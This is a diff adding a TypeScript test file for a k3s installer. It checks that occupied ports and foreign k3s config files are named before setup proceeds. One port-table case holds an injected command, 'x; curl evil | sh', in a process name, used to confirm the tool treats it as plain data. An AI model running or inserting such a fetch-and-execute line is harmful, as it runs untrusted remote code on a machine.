@@ -1,0 +1,174 @@
+import assert from "node:assert/strict";
+import { mkdirSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
+import { describe, test } from "node:test";
+import { configsLook, foreignFirst, portsLook } from "../lib/foreign.ts";
+import type { Role } from "../lib/k3s.ts";
+import { SettingError, type Settings } from "../lib/settings.ts";
+import { type Facts, planAll, Refusal } from "../lib/step.ts";
+import { prepareSteps } from "../scripts/agent.ts";
+import { serverSteps } from "../scripts/server.ts";
+import { MODERN, OLD, prepared, programs, shell, temporary, wanted } from "./helpers.ts";
+
+/** The message with which a box is refused before anything is done; nothing: it is not. */
+function refused(
+  role: Role,
+  facts: Facts,
+  over: Partial<Settings> = {},
+  type: new (message?: string) => Error = Refusal,
+): string {
+  const want = wanted({ K3S_VERSION: MODERN, ...over });
+  try {
+    const steps = role === "server" ? serverSteps : prepareSteps;
+    planAll(steps, want, { ...prepared(want.K3S_VERSION), version: "", ...facts });
+    return "";
+  } catch (error) {
+    assert.ok(error instanceof type, String(error));
+    return error.message;
+  }
+}
+
+const FACT = 'fact() { printf "fact %s\\n" "$1"; }\n';
+
+describe("a port that k3s needs, and something else has", () => {
+  const cases: [ports: string, role: Role, over: Partial<Settings>, message: RegExp | ""][] = [
+    ["udp 51820 - wg0", "agent", {}, /^51820\/udp on this box, which k3s needs for WireGuard, is taken by its interface wg0: take that down, or .*wg set wg0 listen-port 51830/],
+    ["udp 51820 - wg0", "server", { K3S_VERSION: OLD }, /51820\/udp .* interface wg0/],
+    ["udp 51820 77 dnsmasq", "agent", {}, /51820\/udp .* taken by dnsmasq \(process 77\): stop it/],
+    ["udp 51820 - ", "agent", {}, /51820\/udp .* something that does not show/],
+    ["tcp 6443 812 kube-apiserver", "server", {}, /^6443\/tcp on this box, which k3s needs, is taken by kube-apiserver \(process 812\)/],
+    ["tcp 6443 812 nginx\ntcp 10250 9 kubelet", "agent", {}, /^10250\/tcp .* kubelet \(process 9\)/],
+    ["tcp 6443 812 nginx", "agent", {}, ""],
+    ["tcp 10250 9 x; curl evil | sh", "agent", {}, /10250\/tcp .* a program \(process 9\)/],
+    ["udp 51821 - wg1", "server", {}, ""],
+    ["udp 51821 - wg1", "server", { SERVER_ARGS: "--cluster-cidr=10.42.0.0/16,fd42::/56" }, /^51821\/udp/],
+    ["nonsense\nudp 51820", "server", {}, ""],
+    ["", "server", {}, ""],
+  ]; // biome-ignore format: a table
+  for (const [ports, role, over, message] of cases)
+    test(`${JSON.stringify(ports)} is ${message ? "named before anything is done" : "no matter"} on a box that is to be ${role === "agent" ? "an agent" : "a server"}${over.SERVER_ARGS ? " with IPv6" : ""}`, () => {
+      const said = refused(role, { ports }, over);
+      if (message) assert.match(said, message);
+      else assert.equal(said, "");
+    });
+
+  /** What the look says where ss, wg and ip say this, and these processes are in these cgroups. */
+  function seen(ss: string, wg: string, ip = "", cgroups: Record<string, string> = {}): string {
+    const dir = temporary();
+    const print = (text: string) => (text ? `cat <<'END'\n${text}\nEND` : "exit 1");
+    const PATH = programs(join(dir, "bin"), { ss: print(ss), wg: print(wg), ip: print(ip) });
+    for (const [pid, cgroup] of Object.entries(cgroups)) {
+      mkdirSync(join(dir, pid));
+      writeFileSync(join(dir, pid, "cgroup"), cgroup);
+    }
+    return shell(`${FACT}PATH=${PATH}\n${portsLook.replaceAll("/proc/", `${dir}/`)}`).stdout;
+  }
+  const HEAD = "Netid State Recv-Q Send-Q Local Address:Port Peer Address:Port Process";
+  const WG = "udp UNCONN 0 0 0.0.0.0:51820 0.0.0.0:*\nudp UNCONN 0 0 [::]:51820 [::]:*";
+  const looks: [what: string, said: string, expected: string][] = [
+    ["the kernel's WireGuard", seen(`${HEAD}\n${WG}`, "wg0\t51820\nwg1\t51999"), "udp 51820 - wg0\n"],
+    ["the kernel's WireGuard without wg", seen(`${HEAD}\n${WG}`, "", "5: wg0: <POINTOPOINT> mtu 1420"), "udp 51820 - wg0\n"],
+    ["WireGuard of nobody", seen(`${HEAD}\n${WG}`, ""), "udp 51820 - \n"],
+    ["flannel's own", seen(`${HEAD}\n${WG}`, "flannel-wg\t51820"), ""],
+    ["old flannel's own", seen(`${HEAD}\n${WG}`, "flannel.1\t51820"), ""],
+    ["flannel's own without wg", seen(`${HEAD}\n${WG}`, "", "5: flannel-wg: <POINTOPOINT> mtu 1420"), ""],
+    [
+      "wireguard-go's, by its interface",
+      seen(`${HEAD}\n${WG.split("\n")[0]} users:(("wireguard-go",pid=41,fd=9))`, "wg0\t51820", "", { 41: "0::/system.slice/wg.service" }),
+      "udp 51820 - wg0\n",
+    ],
+    [
+      "a program's, as CentOS 7 shows it",
+      seen(`tcp    LISTEN     0      128       *:6443                  *:*                   users:(("nginx",pid=12,fd=6),("nginx",pid=11,fd=6))`, "", "", { 12: "3:cpu:/\n1:name=systemd:/system.slice/nginx.service" }),
+      "tcp 6443 12 nginx\n",
+    ],
+    ["another address's", seen(`tcp LISTEN 0 5 127.0.0.1:10250 0.0.0.0:* users:(("my kubelet",pid=7,fd=3))`, ""), "tcp 10250 7 my kubelet\n"],
+    [
+      "k3s's own, and another port",
+      seen(`tcp LISTEN 0 4096 *:6443 *:* users:(("k3s-server",pid=12,fd=6))\ntcp LISTEN 0 4096 *:10250 *:* users:(("k3s-agent",pid=13,fd=6))\ntcp LISTEN 0 4096 *:16443 *:* users:(("x",pid=14,fd=6))`, "", "", {
+        12: "0::/system.slice/k3s.service",
+        13: "1:name=systemd:/system.slice/k3s-agent.service/x",
+      }),
+      "",
+    ],
+  ]; // biome-ignore format: a table
+  for (const [what, said, expected] of looks)
+    test(`is looked for: ${what}`, () => assert.equal(said, `fact ports\n${expected}`));
+});
+
+describe("a config file of somebody else's, which k3s reads too", () => {
+  const PATH = "/etc/rancher/k3s/config.yaml";
+  const of = (text: string, path = PATH) => ({ configs: `${Buffer.from(text).toString("base64")} ${path}` });
+  const cases: [text: string, role: Role, over: Partial<Settings>, message: RegExp | ""][] = [
+    ["server: https://203.0.113.9:6443", "agent", {}, /^\/etc\/rancher\/k3s\/config\.yaml on this box, which k3s reads too, has server, expected it in K3S_URL; take the key out/],
+    ["server: https://203.0.113.9:6443", "server", {}, /has server, expected it in K3S_URL/],
+    ["node-name: other", "agent", {}, /has node-name, expected it in SERVER_ARGS or AGENT_ARGS/],
+    ["node-name: A1", "agent", {}, ""],
+    ["node-name: other", "agent", { AGENT_ARGS: "--node-name=other" }, ""],
+    ["token: hunter2", "agent", {}, /has token, expected it in K3S_TOKEN/],
+    ["token: hunter2", "server", {}, ""],
+    ["data-dir: /data", "server", {}, /has data-dir: k3s's data are looked for in \/var\/lib\/rancher\/k3s/],
+    ["{data-dir: /data}", "agent", {}, /has data-dir/],
+    ["node-ip: 10.0.0.1", "agent", {}, /has node-ip: PUBLIC_IP/],
+    ["cluster-cidr: 10.1.0.0/16", "server", {}, /has cluster-cidr, expected it in SERVER_ARGS/],
+    ["flannel-backend: none", "server", {}, /has flannel-backend: flannel's backend is WireGuard here/],
+    ["kubelet-arg+:\n- root-dir=/data", "agent", {}, /has kubelet-arg: the kubelet's data/],
+    ["disable: traefik", "agent", {}, /has disable: only servers know it, and an agent ends at it/],
+    ["write-kubeconfig-mode: '0644'", "agent", {}, /has write-kubeconfig-mode: only servers/],
+    ["disable: traefik\nwrite-kubeconfig-mode: '0644'\nnode-label:\n- a=b\nkubelet-arg: max-pods=50", "server", {}, ""],
+    ["node-label: a=b\nsnapshotter: native", "agent", {}, ""],
+    ["a: [", "agent", {}, /^\/etc\/rancher\/k3s\/config\.yaml on this box is no config file that k3s can read: .*; mend it/],
+    ["- a", "server", {}, /no mapping/],
+    ["data-dir: /data", "server", { K3S_VERSION: OLD }, ""],
+    ["# nothing", "server", {}, ""],
+  ]; // biome-ignore format: a table
+  for (const [text, role, over, message] of cases)
+    test(`${JSON.stringify(text)} ${message ? "is refused with its name before anything is done" : "is no matter"} for a ${role}${over.K3S_VERSION ? " that does not read it" : ""}`, () => {
+      const said = refused(role, of(text), over);
+      if (message) assert.match(said, message);
+      else assert.equal(said, "");
+      assert.doesNotMatch(said, /hunter2/);
+    });
+
+  test("is looked for in both places, whatever it holds, and our own is left out", () => {
+    const dir = temporary();
+    mkdirSync(join(dir, "config.yaml.d"));
+    const files = { "config.yaml": "a: 1\nfact x\n", "config.yaml.d/b c.YML": "b: 'é'\n", "config.yaml.d/no.txt": "c: 1" };
+    for (const [name, text] of Object.entries({ ...files, "config.yaml.d/across-clouds.yaml": "d: 1" }))
+      writeFileSync(join(dir, name), text);
+    const { stdout } = shell(FACT + configsLook(dir));
+    const facts = { configs: stdout.replace("fact configs\n", "").replaceAll(dir, "/etc/rancher/k3s") };
+    assert.deepEqual(
+      facts.configs.trim().split("\n").map((line) => [line.replace(/^\S+ .*\//, ""), Buffer.from(line.split(" ")[0] as string, "base64").toString()]),
+      [["config.yaml", files["config.yaml"]], ["b c.YML", files["config.yaml.d/b c.YML"]]],
+    );
+    const [at] = (refused("agent", { configs: facts.configs.replace(/^.*\n/, `${Buffer.from("data-dir: /x").toString("base64")} /etc/rancher/k3s/config.yaml.d/b c.YML\n`) }) || "").split(" on this box");
+    assert.equal(at, "/etc/rancher/k3s/config.yaml.d/b c.YML");
+  }); // biome-ignore format: short
+});
+
+describe("K3S_CONFIG", () => {
+  const text = "disable: traefik\nkubelet-arg: max-pods=50";
+  test("with keys that only servers know is refused for an agent, which would end at them", () => {
+    assert.match(
+      refused("agent", {}, { K3S_CONFIG: text }, SettingError),
+      /^K3S_CONFIG of this box has disable: only servers know it, .*K3S_CONFIG__BOX/,
+    );
+    for (const more of [
+      "tls-san: x",
+      "etcd-s3: true",
+      "service-node-port-range: 1-2",
+      "kube-apiserver-arg: v=2",
+    ])
+      assert.match(refused("agent", {}, { K3S_CONFIG: more }, SettingError), /only servers know it/, more);
+  });
+
+  test("with such keys is a server's, and without them anybody's", () => {
+    assert.equal(refused("server", {}, { K3S_CONFIG: text }), "");
+    for (const role of ["server", "agent"] as const)
+      assert.equal(refused(role, {}, { K3S_CONFIG: "kubelet-arg: max-pods=50\ndebug: true" }), "");
+  });
+});
+
+test("A box with nothing foreign has nothing to do for it", () =>
+  assert.deepEqual(foreignFirst("server").plan(wanted(), prepared(MODERN)), []));
